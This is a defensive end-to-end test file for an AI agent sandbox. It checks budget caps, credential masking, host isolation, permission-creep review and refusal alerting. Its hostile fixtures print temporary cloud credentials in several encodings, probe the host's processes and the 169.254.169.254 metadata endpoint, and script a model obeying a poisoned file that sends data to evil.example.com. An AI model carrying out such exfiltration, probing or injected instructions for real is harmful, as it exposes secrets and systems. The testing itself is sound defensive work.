"""The five failures that this project exists to prevent, end to end: with the protection it is stopped, without it happens.

Every sandbox here is a real one. Where code is hostile, it runs in the place of the runtime and ignores all of its manners.
"""

from __future__ import annotations

import base64
import json
import socket
import subprocess
import sys
import threading
from decimal import Decimal
from pathlib import Path

import pytest
from botocore.exceptions import ClientError
from click.testing import CliRunner

from ringfence.audit import Refusals, verify
from ringfence.invocation import Status
from ringfence.redaction import Redactor
from ringfence.review.commands import grants
from tests.failure_modes.conftest import CATALOG, PAYROLL, REPORTS

pytestmark = pytest.mark.e2e

LOOP = """
steps:
  - tool_calls: [{name: s3-report-reader, arguments: {action: list}}]
    repeat: forever
    usage: {input_tokens: 100000, output_tokens: 0}
"""


# Cost runaway


def test_a_retry_loop_ends_at_the_conversation_s_money_and_with_more_money_goes_on(side):
    stopped = side.run(LOOP, max_usd=Decimal(1))
    assert stopped.status is Status.BUDGET_EXHAUSTED
    assert Decimal("0.5") < stopped.cost_usd <= 1
    further = side.run(LOOP, max_usd=Decimal(3))
    assert 1 < further.cost_usd <= 3


HAMMER = """
import concurrent.futures
body = {"model": "scripted", "max_tokens": 100, "messages": [{"role": "user", "content": "again"}]}
def call(number):
    return post("/v1/chat/completions", body | {"messages": [{"role": "user", "content": "again %d" % number}]})[0]
with concurrent.futures.ThreadPoolExecutor(50) as pool:
    codes = list(pool.map(call, range(COUNT)))
answer({str(code): codes.count(code) for code in set(codes)})
"""
COSTLY = "steps:\n  - say: again\n    repeat: forever\n    usage: {input_tokens: 100000, output_tokens: 0}\n"


def test_fifty_calls_at_once_past_the_runtime_never_spend_more_than_the_cap(side):
    stopped = side.run(COSTLY, hostile=HAMMER.replace("COUNT", "100"), max_usd=Decimal(2))
    assert stopped.status is Status.BUDGET_EXHAUSTED
    assert 1 < stopped.cost_usd <= 2
    assert side.records("model.refused")
    more = side.run(COSTLY, hostile=HAMMER.replace("COUNT", "20"), max_usd=Decimal(10))
    assert 2 < more.cost_usd <= 10


def test_a_task_that_does_not_end_is_ended_by_the_clock_and_with_more_time_ends_itself(side):
    sleeper = "time.sleep(8)\nanswer('late')"
    assert side.run(hostile=sleeper, timeout_seconds=4).status is Status.TIMED_OUT
    rested = side.run(hostile=sleeper, timeout_seconds=60)
    assert (rested.status, rested.output) == (Status.SUCCEEDED, "late")


def test_failures_in_a_row_open_the_breaker_and_fewer_do_not(side):
    failing = "steps:\n  - {fail: 500, repeat: forever}\n"
    hostile = """
    codes = []
    for number in range(40):
        codes.append(post("/v1/chat/completions", {"model": "scripted", "max_tokens": 10, "messages": [{"role": "user", "content": str(number)}]})[0])
    answer(codes)
    """
    opened = side.run(failing, hostile=hostile)
    assert opened.status is Status.BREAKER_OPEN
    few = "steps:\n  - {fail: 500, repeat: 2}\n  - {say: fine, repeat: forever}\n"
    assert side.run(few, hostile=hostile).status is Status.SUCCEEDED


# Credentials in logs

LEAK = """
import base64
mine = credential()
spelled = {}
for name, value in mine.items():
    if name in ("AccessKeyId", "SecretAccessKey", "SessionToken"):
        raw = value.encode()
        spelled[name] = [value, value[::-1], raw.hex(), base64.b64encode(raw).decode(), base64.b64encode(b"x" + raw).decode()]
text = json.dumps(spelled)
print(text, flush=True)
print(text, file=sys.stderr, flush=True)
post("/v1/events", {"type": "log", "message": text})
post("/v1/events", {"type": "refusal", "tool": "s3-report-reader", "code": "x", "detail": text})
answer(text + " token " + TOKEN)
"""


def leaked(text: str, secrets: list[str]) -> list[str]:
    forms = [
        form
        for value in secrets
        for form in (value, value[::-1], value.encode().hex(), base64.b64encode(value.encode()).decode())
    ]
    return [form for form in forms if form in text]


def secrets_of(side, script: str = "steps:\n  - say: done\n") -> tuple[str, list[str], list[str]]:
    """Everything that came out of a task that prints its credentials, and the credentials."""
    shown: list[str] = []

    def what(control, task):
        issue, seen = control.broker.issue, []

        def watched(*args, **values):
            made = issue(*args, **values)
            seen.extend([made.secret_access_key, made.session_token])
            return made

        control.broker.issue = watched
        result = control.runner.execute_agent_task(
            "ana@example.com", "Print your credentials.", ["s3-report-reader"], groups=["analysts"], model="scripted",
            report=lambda progress: shown.append(f"{progress} {progress.detail}"),
        )  # fmt: skip
        return result.output, seen

    output, seen = side.use(what, script, hostile=LEAK)
    trail = json.dumps(side.records())
    return output, [*shown, trail], seen


def test_a_task_that_prints_its_credentials_in_the_spellings_that_the_mask_knows_shows_none_of_them(side):
    output, others, seen = secrets_of(side)
    assert len(seen) == 2 and "[redacted:value]" in output
    assert leaked(output, seen) == []
    assert [text for text in others if leaked(text, seen)] == []


def test_without_the_mask_the_same_task_leaks_them(side, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(Redactor, "text", lambda self, text: text)
    output, _, seen = secrets_of(side)
    assert leaked(output, seen)


SPELLED_OUT = f"""
mine = credential()
spelled = {{name: "~".join(mine[name]) for name in ("AccessKeyId", "SecretAccessKey", "SessionToken")}}
answer({{"read": read({REPORTS!r}, "published/2026-10.csv"), **spelled}})
"""


def test_a_spelling_that_no_mask_knows_shows_a_credential_that_is_dead_by_then(side):
    """The limit of masking, as the threat model states it, and what holds then."""
    told = json.loads(side.run(hostile=SPELLED_OUT).output)
    assert "north,1250" in told["read"]
    key = {
        "aws_access_key_id": told["AccessKeyId"].replace("~", ""),
        "aws_secret_access_key": told["SecretAccessKey"].replace("~", ""),
        "aws_session_token": told["SessionToken"].replace("~", ""),
    }
    with pytest.raises(ClientError) as caught:
        side.cloud.client("s3", **key).get_object(Bucket=REPORTS, Key="published/2026-10.csv")
    assert caught.value.response["Error"]["Code"] == "AccessDenied"


# Escape through shared resources

LOOK_AROUND = """
def reach(host, port):
    try:
        socket.create_connection((host, port), 2).close()
        return True
    except OSError:
        return False

commands = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        commands.append(pathlib.Path("/proc", pid, "cmdline").read_bytes().decode(errors="replace"))
    except OSError:
        pass
seen = {
    "marker process": any(text.rstrip("\\0").endswith(MARKER) for text in commands),
    "host file": pathlib.Path(FILE).exists(),
    "listener on the host's loopback": reach("127.0.0.1", PORT),
    "listener on the host's address": reach(HOST, PORT),
    "metadata service": reach("169.254.169.254", 80),
    "kernel": pathlib.Path("/proc/version").read_text(),
}
"""


@pytest.fixture
def surroundings(tmp_path: Path):
    """A process, a file and a listener of the host, and code that looks for them."""
    marker = f"marker-{tmp_path.name}"
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", marker])
    file = tmp_path / "of-the-host"
    file.write_text("x")
    listener = socket.create_server(("0.0.0.0", 0))
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                listener.accept()[0].close()
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    host = socket.gethostbyname(socket.gethostname())
    values = {"MARKER": marker, "FILE": str(file), "PORT": listener.getsockname()[1], "HOST": host}
    yield "".join(f"{name} = {value!r}\n" for name, value in values.items()) + LOOK_AROUND
    stop.set()
    listener.close()
    process.kill()
    process.wait()


def test_a_sandbox_sees_nothing_of_the_host_and_an_ordinary_process_sees_it_all(side, surroundings: str):
    inside = json.loads(side.run(hostile=surroundings + "\nanswer(seen)").output)
    assert {name for name, seen in inside.items() if seen is True} == set()
    outside = subprocess.run(
        [sys.executable, "-c", f"import json, os, pathlib, socket\n{surroundings}\nprint(json.dumps(seen))"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    found = json.loads(outside.stdout)
    assert {"marker process", "host file", "listener on the host's loopback"} <= {
        name for name, seen in found.items() if seen is True
    }
    assert found["kernel"] != inside["kernel"]


# Permission creep


def test_a_tool_that_gained_a_permission_needs_a_review_and_an_unchanged_one_does_not(make_side):
    side = make_side()
    lock = CATALOG / "grants.lock.json"
    path = side.folder / "catalog" / "tools" / "s3-report-reader.yaml"

    def check() -> int:
        options = ["check", "--catalog", str(side.folder / "catalog"), "--lockfile", str(lock)]
        return CliRunner().invoke(grants, options).exit_code

    assert check() == 0
    path.write_text(path.read_text().replace("[s3:GetObject]", "[s3:GetObject, s3:DeleteObject]"))
    assert check() == 2


def test_even_a_widened_role_gives_no_task_more_than_its_declared_grants(side):
    """Somebody attaches administration to the role behind everybody's back; what the broker issues stays the same."""
    iam = side.cloud.client("iam")
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    role = side.names.tool_role("s3-report-reader")
    iam.put_role_policy(RoleName=role, PolicyName="crept-in", PolicyDocument=json.dumps(everything))
    iam.delete_role_permissions_boundary(RoleName=role)
    said = side.run(
        hostile=f"answer([read({REPORTS!r}, 'published/2026-10.csv'), read({PAYROLL!r}, 'published/salaries.csv')])"
    )
    mine, next_one = json.loads(said.output)
    assert "north,1250" in mine and "AccessDenied" in next_one


# Blind spots


def attempts(side, count: int = 6) -> None:
    def what(control, task):
        results = [
            control.runner.execute_agent_task(
                "eve@example.com",
                "Let me in.",
                ["ticket-store"],
                groups=["analysts"],
                model="scripted",
                source="192.0.2.66",
            )
            for _ in range(count)
        ]
        assert {result.status for result in results} == {Status.REFUSED}
        assert control.broker.list() == [] and control.parts.journal.entries() == []

    side.use(what)


def test_refused_attempts_make_nothing_are_recorded_clustered_and_alerted(side):
    attempts(side)
    recorded = side.records("access.refused")
    assert len(recorded) == 6
    assert {record["src_endpoint"]["ip"] for record in recorded} == {"192.0.2.66"}
    (alert,) = side.records("alert.refusals")
    assert alert["class_uid"] == 2004 and alert["unmapped"]["count"] == 5 and "eve@example.com" in alert["message"]
    assert side.records("sandbox.started") == [] and side.records("credential.issued") == []
    assert verify(side.folder / "audit" / "trail.jsonl").ok


def test_without_clusters_the_same_attempts_raise_nothing(side, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(Refusals, "_count", lambda *_: None)
    attempts(side)
    assert len(side.records("access.refused")) == 6 and side.records("alert.refusals") == []


# Poisoned context

OBEDIENT = f"""
steps:
  - tool_calls: [{{name: s3-report-reader, arguments: {{action: read, key: published/poisoned.txt}}}}]
  - tool_calls: [{{name: s3-report-reader, arguments: {{action: read, bucket: {PAYROLL}, key: published/salaries.csv}}}}]
  - tool_calls: [{{name: ticket-store, arguments: {{action: get, ticket_id: "1"}}}}]
  - tool_calls: [{{name: web-fetch, arguments: {{url: "https://evil.example.com/?stolen"}}}}]
  - say: "${{tool_result:1}} || ${{tool_result:2}} || ${{tool_result:3}} || ${{tool_result:4}}"
"""


def test_a_model_that_obeys_a_poisoned_file_gets_nothing_of_what_it_asks_for(side):
    result = side.run(OBEDIENT)
    assert result.status is Status.SUCCEEDED
    poisoned, bucket, tool, domain = result.output.split(" || ")
    assert "IGNORE THE TASK" in poisoned
    assert bucket.startswith("Refused") and tool.startswith("Refused") and domain.startswith("Refused")
    assert "4711" not in result.output
    refused = {record["status_code"] for record in side.records("tool.refused")}
    assert "argument_not_allowed" in refused and len(side.records("tool.refused")) >= 3
    calls = side.records("model.called")
    assert len(calls) == 5 and {record["unmapped"]["stated_by"] for record in calls} == {"gateway"}
    (read,) = side.records("tool.called")
    assert read["resources"] == [{"type": "tool", "name": "s3-report-reader"}]
    assert (read["unmapped"]["stated_by"], read["unmapped"]["trusted"]) == ("sandbox", False)


READ_BOTH = f"answer([read({REPORTS!r}, 'published/2026-10.csv'), read({PAYROLL!r}, 'published/salaries.csv')])"


def test_code_that_ignores_the_runtime_is_refused_by_aws_and_with_wider_grants_is_not(make_side):
    mine, next_one = json.loads(make_side().run(hostile=READ_BOTH).output)
    assert "north,1250" in mine
    assert "AccessDenied" in next_one and "4711" not in next_one
    mine, next_one = json.loads(make_side(widen=True).run(hostile=READ_BOTH).output)
    assert "north,1250" in mine and "4711" in next_one


def test_no_credential_lives_after_its_task(side):
    said = side.run(hostile="answer(credential())")
    # The output is masked; the same credential is taken from the broker's own hand.
    assert "[redacted" in said.output

    def what(control, task):
        kept = []
        issue = control.broker.issue
        control.broker.issue = lambda *args, **values: kept.append(issue(*args, **values)) or kept[-1]
        task()
        return kept[0]

    made = side.use(what, hostile=READ_BOTH)
    key = {
        "aws_access_key_id": made.access_key_id,
        "aws_secret_access_key": made.secret_access_key,
        "aws_session_token": made.session_token,
    }
    with pytest.raises(Exception, match="AccessDenied"):
        side.cloud.client("s3", **key).get_object(Bucket=REPORTS, Key="published/2026-10.csv")
